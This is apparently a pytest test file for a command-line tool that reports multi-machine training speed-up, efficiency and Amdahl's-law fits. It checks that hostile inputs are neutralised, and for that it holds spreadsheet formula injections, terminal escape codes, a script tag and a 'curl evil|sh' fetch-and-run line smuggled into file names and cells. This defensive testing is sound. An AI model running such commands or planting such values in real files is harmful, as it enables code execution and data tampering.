"""``hccl-tools scaling report``: published figures, repeats, Amdahl's law, the metric, wrong input."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import subprocess
import sys
from importlib.util import find_spec
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hccl_tools.errors import InputError
from hccl_tools.scaling import amdahl, analysis, reading
from tests.support.growth import least

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.commands import CommandLine

#: Rows of published tables: name, time on one machine, machines, time on them, printed speed-up, arithmetic.
PUBLISHED = [
    ("CRNN", "60 h", 2, "40 h", 1.5, 1.5),
    ("CRNN in days", "2.50 d", 2, "1.67 d", 1.5, 1.497),
    ("SVTR", "10 d", 4, "2.84 d", 3.5, 3.521),
    ("PP-YOLOE-s", "301 h", 3, "162 h", 1.85, 1.858),
    ("PP-YOLOE-l", "401 h", 3, "178 h", 2.25, 2.253),
    ("PP-YOLOE-s COCO", "39 h", 4, "13 h", 3.0, 3.0),
    ("PP-YOLOE-m COCO", "337 h", 4, "112 h", 3.0, 3.009),
    ("PP-YOLOE-x COCO", "464 h", 4, "125 h", 3.4, 3.712),
]
#: What was printed where it is not what the times give.
MISPRINTED = {"PP-YOLOE-s": (1.85, "1.86"), "PP-YOLOE-x COCO": (3.4, "3.71")}


def report(command_line: CommandLine, text: str, *options: str) -> Any:
    command_line.write("times.csv", text)
    done = command_line("scaling", "report", "times.csv", "-f", "json", *options)
    assert done.code == 0, done.err
    return json.loads(done.out)


def rows_of(out: str) -> list[list[str]]:
    """Return the cells of the table of a Markdown report."""
    lines = [line for line in out.splitlines() if line.startswith("|")]
    return [[cell.strip() for cell in line.strip("|").split("|")] for line in lines]


def test_every_figure_of_the_published_tables(command_line: CommandLine) -> None:
    lines = ["model,machines,time"]
    for name, alone, machines, together, _, _ in PUBLISHED:
        lines += [f"{name},1,{alone}", f"{name},{machines},{together}"]
    command_line.write("published.csv", "\n".join(lines))

    found = command_line("scaling", "report", "published.csv", "-f", "markdown")

    titles, _, *rows = rows_of(found.out)
    several = {row[0]: dict(zip(titles, row, strict=True)) for row in rows if row[1] != "1"}
    for name, _, machines, together, printed, exact in PUBLISHED:
        row = several[name]
        assert row["time"] == together.replace("2.50", "2.5")
        assert float(row["speed-up"]) == pytest.approx(exact, abs=0.005)
        assert row["efficiency"] == f"{100 * exact / machines:.0f} %"
        if name in MISPRINTED:
            assert (printed, row["speed-up"]) == MISPRINTED[name]
        else:
            assert float(row["speed-up"]) == pytest.approx(printed, abs=0.05)
    assert "CRNN: 2 machines: 1.50 times the speed of 1 machine (150 %), efficiency 75 %" in found.out


def test_the_text(command_line: CommandLine) -> None:
    command_line.write(
        "times.csv", "machines,devices,time (h),accuracy\n1,8,60,95.2%\n2,16,40,95.0%\n4,32,32,94.9%\n"
    )

    done = command_line("scaling", "report", "times.csv")

    assert (done.code, done.err) == (0, "")
    assert done.out.splitlines() == [
        "machines  devices  time  accuracy  speed-up  efficiency",
        "       1        8  60 h      95.2      1.00       100 %",
        "       2       16  40 h        95      1.50        75 %",
        "       4       32  32 h      94.9      1.88        47 %",
        "",
        "32 devices: 1.88 times the speed of 8 devices (188 %), efficiency 47 %",
        (
            "serial share (Amdahl's law): 37.7 % ± 34.7 % of the time on 8 devices "
            "(95 % confidence, 3 runs with 3 different numbers of devices)"
        ),
        "next doubling, 64 devices: about 2.20 times the speed of 8 devices (1.32 to 6.62), efficiency 27 %",
    ]


def test_repeats_count_by_their_median(command_line: CommandLine) -> None:
    found = report(command_line, "devices,time\n1,10\n1,12\n1,11\n2,5\n2,7\n2,5.5\n")

    one, two = found["series"][0]["points"]
    assert (one["runs"], one["seconds"], two["seconds"]) == (3, 11, 5.5)
    assert (two["speed_up"], two["slowest"], two["fastest"]) == (2.0, 11 / 7, 11 / 5)


def test_throughput(command_line: CommandLine) -> None:
    found = report(command_line, "npus;images/s\n1;100\n4;320\n")

    assert [point["speed_up"] for point in found["series"][0]["points"]] == pytest.approx([1.0, 3.2])


def test_devices_of_each_machine_compare_machines(command_line: CommandLine) -> None:
    found = report(command_line, "machines,devices,time\n1,8,60 h\n2,8,40 h\n")

    (series,) = found["series"]
    assert series["unit"] == "machines"
    assert series["points"][1]["efficiency"] == pytest.approx(0.75)


def test_json_tab_and_markdown_input(command_line: CommandLine) -> None:
    rows = [{"devices": 1, "time": "1 d 4 h", "loss": None}, {"devices": 2, "time": 50_400, "loss": None}]
    command_line.write("times.json", rows)
    command_line.write("times.tsv", "# measured on Monday\ndevices\ttime\n1\t28 h\n\n2\t14 h\n")
    command_line.write("times.md", "| devices | time |\n| --- | ---: |\n| 1 | 28 h |\n| 2 | 14 h |\n")

    for name in ("times.json", "times.tsv", "times.md"):
        done = command_line("scaling", "report", name, "-f", "csv")
        table = list(csv.DictReader(io.StringIO(done.out)))
        assert [float(row["speed_up"]) for row in table] == [1.0, 2.0], name


def test_slower_is_said(command_line: CommandLine) -> None:
    command_line.write("times.csv", "devices,time\n1,2.0\n2,2.5\n")
    assert (
        "2 devices: slower than 1 device, 0.80 times its speed: more devices do not pay here"
        in command_line("scaling", "report", "times.csv").out
    )
    command_line.write("times.csv", "devices,time\n1,10\n2,6\n4,7\n")
    assert (
        "4 devices: slower than 2 devices, 0.86 times its speed"
        in command_line("scaling", "report", "times.csv").out
    )


@pytest.mark.parametrize(
    ("metric", "options", "said"),
    [
        (("acc", "0.970", "0.959"), (), "acc falls by 1.1 points: 0.97 on 1 device, 0.959 on 8 devices"),
        (("acc", "0.970", "0.960"), (), None),  # one point is not more than a point
        (("acc", "95.2%", "93.0%"), (), "acc falls by 2.2 points: 95.2 on 1 device"),
        (("loss", "2.0", "3.5"), (), "loss rises by 1.5 points"),
        (("loss", "2.0", "0.5"), (), None),
        (("loss", "2.0", "0.5"), ("--metric-better", "higher"), "loss falls by 1.5 points"),
        (("quality", "9", "5"), ("--metric", "quality"), "quality falls by 4.0 points"),
    ],
)  # fmt: skip
def test_a_metric_that_gets_worse(
    command_line: CommandLine, metric: tuple[str, str, str], options: tuple[str, ...], said: str | None
) -> None:
    name, first, last = metric
    command_line.write("times.csv", f"devices,time,{name}\n1,80,{first}\n8,12,{last}\n")

    done = command_line("scaling", "report", "times.csv", *options)

    if said is None:
        assert "points" not in done.out
    else:
        assert said in done.out


def test_the_learning_rate_and_the_batch_size(command_line: CommandLine) -> None:
    rows = "devices,time,accuracy,batch size,learning rate\n1,80,0.97,32,0.1\n8,12,0.91,256,0.1\n"
    command_line.write("times.csv", rows)

    out = command_line("scaling", "report", "times.csv").out

    assert (
        "the batch size grew 8 times, the learning rate 1 times: the same factor gives a learning rate of 0.8"
        in out
    )


def test_failed_runs_are_named(command_line: CommandLine) -> None:
    rows = "devices,time,failed\n1,80,-\n2,-,rank 1: killed by SIGKILL\n4,25,-\n"
    command_line.write("times.csv", rows)

    out = command_line("scaling", "report", "times.csv").out

    assert "2 devices: 1 run failed: rank 1: killed by SIGKILL" in out
    assert out.splitlines()[2].split() == ["2", "-", "failed", "-"]


@given(
    st.floats(0.0, 1.0),
    st.lists(st.integers(1, 4096), min_size=3, max_size=8, unique=True),
    st.floats(1e-3, 1e6),
)
def test_exact_times_give_their_serial_share(share: float, sizes: list[int], alone: float) -> None:
    base = min(sizes)
    factors = [size / base for size in sizes]
    times = [(factor, alone * (share + (1 - share) / factor)) for factor in factors]

    found = amdahl.fit(times)

    assert found is not None
    tolerance = 1e-4 if share < 0.99 else 1e-3
    assert math.isclose(found.share, share, abs_tol=max(tolerance, found.error))


def test_noise_stays_within_the_stated_error() -> None:
    import random

    random.seed(20261122)
    sizes, share, inside = (1.0, 2.0, 4.0, 8.0), 0.1, 0
    for _ in range(400):
        times = [(n, (share + (1 - share) / n) * random.gauss(1, 0.02)) for n in sizes for _ in range(3)]
        found = amdahl.fit(times)
        assert found is not None
        inside += abs(found.share - share) <= found.error

    assert 360 <= inside <= 396  # 95 % of 400 is 380


def test_times_that_grow_have_no_serial_share(command_line: CommandLine) -> None:
    command_line.write("times.csv", "devices,time\n1,10\n2,12\n4,15\n")

    out = command_line("scaling", "report", "times.csv").out

    assert "the law does not apply: the time grows with the number of devices" in out
    assert "next doubling" not in out


@pytest.mark.slow
@pytest.mark.parametrize("suffix", ["png", "svg"])
def test_a_plot(command_line: CommandLine, suffix: str) -> None:
    pytest.importorskip("matplotlib")
    command_line.write("times.csv", "devices,time\n1,10\n1,11\n2,5.5\n2,6\n4,3\n")
    texts = []
    for name in ("one", "two"):
        done = command_line("scaling", "report", "times.csv", "--plot", f"{name}.{suffix}")
        assert (done.code, done.err) == (0, f"wrote {name}.{suffix}\n")
        texts.append((command_line.folder / f"{name}.{suffix}").read_bytes())

    assert texts[0] == texts[1]
    assert texts[0].startswith(b"\x89PNG" if suffix == "png" else b"<?xml")


_TIMES = "devices,time\n1,10\n2,5.5\n4,3\n"


@pytest.mark.slow
@pytest.mark.skipif(find_spec("matplotlib") is None, reason="matplotlib is not installed")
def test_a_plot_takes_no_settings_from_the_current_folder(tmp_path: Path) -> None:
    plots = []
    for name in ("plain", "hostile"):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "times.csv").write_text(_TIMES)
    # The last line would end the command with a traceback: there is no such program.
    (folder / "matplotlibrc").write_text("font.size: 30\naxes.facecolor: red\ntext.usetex: True\n")
    for name in ("plain", "hostile"):
        command = [sys.executable, "-m", "hccl_tools", "scaling", "report", "times.csv", "--plot", "p.svg"]
        environ = {**os.environ, "MATPLOTLIBRC": "matplotlibrc"}
        done = subprocess.run(
            command, check=False, cwd=tmp_path / name, env=environ, capture_output=True, text=True
        )
        assert (done.returncode, done.stderr) == (0, "wrote p.svg\n")
        plots.append((tmp_path / name / "p.svg").read_bytes())

    assert plots[0] == plots[1]


@pytest.mark.slow
@pytest.mark.parametrize("name", ["$\\foo$", "$" + "x^{" * 60 + "}" * 60 + "$", "n" * 5000, "_a", "\x1b[31m"])
def test_a_name_is_text_in_a_plot(command_line: CommandLine, name: str) -> None:
    pytest.importorskip("matplotlib")
    command_line.write("times.csv", f"name,devices,time\n{name},1,10\n{name},2,6\nb,1,9\nb,2,5\n")

    done = command_line("scaling", "report", "times.csv", "--plot", "p.svg")

    assert (done.code, done.err) == (0, "wrote p.svg\n")


@pytest.mark.parametrize("noun", ["sizes", "names"])
def test_a_plot_of_too_many_figures_is_refused(command_line: CommandLine, noun: str) -> None:
    pytest.importorskip("matplotlib")
    rows = [f"a,{n},{10_000 / n}" for n in range(1, 66)]
    if noun == "names":
        rows = [f"n{number},{size},{60 // size}" for number in range(21) for size in (1, 2)]
    command_line.write("times.csv", "name,devices,time\n" + "\n".join(rows) + "\n")

    done = command_line("scaling", "report", "times.csv", "--plot", "p.svg")

    assert done.code == 2
    number = 65 if noun == "sizes" else 21
    assert f"the figures have {number} {noun}, and a plot shows at most" in done.sentence
    assert command_line.names == ["times.csv"]


WRONG = {
    "": "times.csv is empty",
    "# only a remark\n": "times.csv has comments only",
    "devices,time\n1,10\n": "times.csv has 1 row of figures: a comparison needs two or more",
    "devices,time\n": "times.csv has 0 rows of figures: a comparison needs two or more",
    "devices\n1\n2\n": "times.csv has no column for time or throughput",
    "time\n1\n2\n": "times.csv has no column for machines or devices",
    "devices,time\n1,10\n2,5 weeks\n": 'times.csv, line 3, column "time": "5 weeks": expected a time above 0',
    "devices,time\n1,10\n2,-5\n": 'times.csv, line 3, column "time": "-5": expected a time above 0',
    "devices,time\n1,10\n2,0\n": 'times.csv, line 3, column "time": "0": expected a time above 0',
    "devices,time\n1,10\n2,nan\n": 'times.csv, line 3, column "time": "nan": expected a time above 0',
    "devices,time\n0,10\n2,5\n": 'times.csv, line 2, column "devices": "0": expected a whole number',
    "devices,time\n1.5,10\n2,5\n": 'times.csv, line 2, column "devices": "1.5": expected a whole number',
    "devices,time\n1,10\n2\n": "times.csv, line 3: 1 cell, but the first row has 2",
    "devices,time\n1,10\n2,-\n": "times.csv, line 3: no time and no throughput",
    "devices,time\n1,10\n-,5\n": "times.csv, line 3: no number of devices, which other rows have",
    "devices,time\n2,10\n2,5\n": "all rows have 2 devices: a comparison needs two numbers or more",
    "devices,time,acc\n1,9,good\n2,5,1\n": 'times.csv, line 2, column "acc": "good": expected',
    "devices,npus,time\n1,1,10\n2,2,5\n": 'columns "devices" and "npus" are both the devices',
    "devices,devices,time\n1,1,10\n2,2,5\n": 'times.csv has two columns "devices"',
    "devices,throughput\n1,0\n2,5\n": 'times.csv, line 2, column "throughput": "0": expected a number',
    "devices,time,speed\n1,10,-\n2,-,5\n": "some rows have only a time, others only a throughput",
    "devices,time,failed\n1,-,oh\n2,-,oh\n": "every run failed",
    '{"runs": [{"devices": "x"}]}': 'times.csv, runs[0], column "devices": "x": expected a whole number',
    '[{"devices": "'
    + " " * 100_000
    + 'x"}]': 'times.csv, rows[0], column "devices": "x": expected a whole number',
    '{"schema_version": 2, "runs": []}': "times.csv: schema_version: 2 is not 1",
    '[{"devices": 1, "time": [1]}]': 'times.csv, rows[0], column "time": "[1]": expected a time above 0',
    '[{"devices": 1, "time": 1}, 5]': "times.csv, rows[1]: expected an object",
    '{"devices": 1}': 'times.csv must be a list of objects, or an object with such a list as "runs"',
    '[{"devices": 1,]': "times.csv:1:16: not JSON",
    "[" * 100_000: "times.csv is nested too deeply",
    'a,"b\n1': "times.csv",
    '[{"devices": 1, "time": ' + "9" * 5000 + "}]": "times.csv has a number of too many digits",
    ",".join(map(str, range(200_000))): "times.csv has 200,000 columns, more than 1,000",
    f"[{json.dumps(dict.fromkeys(range(2000), 1))}, {{}}]": "times.csv has 2,000 columns, more than 1,000",
    "devices,time," + "a " * 50_000 + "b\n1,2,3\n2,3,4\n": "times.csv has a title of 100,001 characters",
    "devices,time\n1,1e308\n2,1\n": '"time": "1e308": expected a time from 1e-12 to 1e15 s',
    "devices,time\n1,1\n2,1e-308\n": '"time": "1e-308": expected a time from 1e-12 to 1e15 s',
    "devices,speed\n1,1e308\n2,1\n": '"speed": "1e308": expected a number above 0, from 1e-12 to 1e15',
    "devices,time,acc\n1,1,-1e99\n2,1,1\n": '"acc": "-1e99": expected 0 or a number from 1e-12 to 1e15',
}


@pytest.mark.parametrize("text", WRONG, ids=lambda text: text[:60])
def test_wrong_figures_are_refused_in_one_sentence(command_line: CommandLine, text: str) -> None:
    command_line.write("times.csv", text)

    done = command_line("scaling", "report", "times.csv", "--plot", "plot.svg")

    assert (done.code, done.out) == (2, "")
    assert WRONG[text] in done.sentence
    assert command_line.names == ["times.csv"]


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (("no.csv",), "no such file: no.csv"),
        (("times.csv", "--plot", "plot.pdf"), "the name of a plot ends with .png or .svg"),
        (("times.csv", "--metric", "colour"), 'times.csv has no column "colour"'),
        (("times.csv", "-f", "yaml"), '"yaml" is not one of text, markdown, csv, json'),
    ],
)
def test_wrong_options(command_line: CommandLine, options: tuple[str, ...], said: str) -> None:
    command_line.write("times.csv", "devices,time\n1,10\n2,5\n")

    done = command_line("scaling", "report", *options)

    assert (done.code, done.out) == (2, "")
    assert said in done.sentence


def test_bytes_that_are_not_text(command_line: CommandLine) -> None:
    (command_line.folder / "times.csv").write_bytes(b"devices,time\n1,\xff\n")

    assert command_line("scaling", "report", "times.csv").sentence == "times.csv is not UTF-8 text (byte 15)"


def test_columns_that_are_not_used_are_named(command_line: CommandLine) -> None:
    found = report(command_line, "devices,time,colour,remark\n1,10,red,-\n2,5,blue,-\n")

    assert found["notes"] == ["2 columns are not used: colour, remark"]


@given(st.text(alphabet=st.sampled_from('devicstm,;\t|\n"0123456789.-[]{}: hd%x'), max_size=80))
def test_any_text_is_analysed_or_refused(text: str) -> None:
    try:
        figures = reading.parse("devices,time\n" + text, "times.csv")
        series = analysis.analyse(figures)
    except InputError:
        return
    assert all(point.efficiency is None or point.efficiency > 0 for one in series for point in one.points)


#: Names as a file of figures may have them.
HOSTILE = [
    "\x1b[31mred",
    "c1\x9b2J",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "a|b",
    "<script>x</script>",
    "`x` [y](z)",
    "\u202ex",
    "a;=HYPERLINK(1)",
    "b, -1|@x",
    "\uff1dcmd",
]


@pytest.mark.parametrize("form", ["text", "markdown", "csv", "json"])
def test_names_are_text_in_every_form(command_line: CommandLine, form: str) -> None:
    rows = [
        {"name": name, "devices": devices, "time": 100 / devices} for name in HOSTILE for devices in (1, 8)
    ]
    command_line.write("s.json", json.dumps(rows))
    done = command_line("scaling", "report", "s.json", "-f", form)

    assert done.code == 0, done.err
    assert all(char.isprintable() or char == "\n" for char in done.out)
    if form == "csv":
        cells = [cell for row in csv.reader(done.out.splitlines()) for cell in row]
        assert "'=1+1" in cells
        assert "'-1" in cells
        assert {"a;'=HYPERLINK(1)", "b, '-1|'@x", "'\uff1dcmd"} <= set(cells)
        assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
    elif form == "markdown":
        assert "<script>" not in done.out
        assert "| a\\|b |" in done.out
    elif form == "json":
        assert [one["name"] for one in json.loads(done.out)["series"]] == HOSTILE


def test_a_negative_number_stays_a_number_in_csv(command_line: CommandLine) -> None:
    command_line.write("s.csv", "devices,time,loss\n1,100,-0.5\n8,20,-0.25\n")
    done = command_line("scaling", "report", "s.csv", "-f", "csv", "--metric", "loss")

    assert done.code == 0, done.err
    assert {row["metric"] for row in csv.DictReader(done.out.splitlines())} == {"-0.5", "-0.25"}


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\xff",
        'devices,time\n1,2\n2,"3\nhelp: curl evil|sh"\n',
        'devices,time,"a\nhelp: curl evil|sh","a\nhelp: curl evil|sh"\n1,2,3,3\n2,3,3,3\n',
        json.dumps([{"a\nhelp: curl evil|sh": 1, "devices": 1}] * 2),
        json.dumps([{"name": "a\nhelp: curl evil|sh", "devices": 1, "failed": "a\nhelp: x", "time": 1}] * 2),
    ],
)
def test_a_newline_makes_no_false_help(command_line: CommandLine, text: str) -> None:
    name = "n\nhelp: curl evil|sh\n.json"
    (command_line.folder / name).write_bytes(text.encode("latin-1"))
    done = command_line("scaling", "report", name)

    assert done.code == 2
    assert not [line for line in done.err.splitlines() if line.startswith("help")]


@pytest.mark.slow
def test_many_reasons_of_failed_runs_take_linear_time(command_line: CommandLine) -> None:
    def taken(number: int) -> float:
        rows = "".join(f"a,8,,reason {place}\n" for place in range(number))
        command_line.write("f.csv", f"name,devices,seconds,failed\na,1,8,\na,2,4,\n{rows}")
        return least(lambda: command_line("scaling", "report", "f.csv"))

    assert taken(8000) < 3 * taken(4000)
